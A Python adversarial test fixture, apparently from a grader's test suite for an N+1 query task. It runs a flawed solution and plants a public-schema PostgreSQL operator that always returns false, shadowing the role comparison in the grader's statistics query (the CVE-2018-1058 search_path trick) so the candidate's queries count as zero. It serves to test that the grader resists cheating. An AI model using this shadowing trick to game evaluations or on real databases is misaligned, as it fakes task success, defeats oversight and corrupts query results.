"""Hostile: the N+1 history (flawed.py) plus an operator in the candidate's own schema, public,
that shadows `oid = regrole` for anyone whose search_path holds public: if the grader's
statistics query filters `userid = 'app'::regrole` unqualified, it now matches nothing and the
candidate's statements count as zero (CVE-2018-1058's class of trick)."""

import app
import flawed
import psycopg

SHADOW = """
CREATE OR REPLACE FUNCTION public.never(oid, regrole) RETURNS boolean
  LANGUAGE sql IMMUTABLE AS 'SELECT false';
DROP OPERATOR IF EXISTS public.= (oid, regrole);
CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = regrole, FUNCTION = public.never);
DROP OPERATOR IF EXISTS public.= (name, unknown);
"""

if __name__ == "__main__":
    url = app.os.environ["DATABASE_URL"]
    with psycopg.connect(url, autocommit=True) as conn:
        for stmt in SHADOW.split(";"):
            if stmt.strip() and "unknown" not in stmt:
                try:
                    conn.execute(stmt)
                except psycopg.Error as e:
                    print("shadow:", e, flush=True)
    app.main(flawed.Store(url))
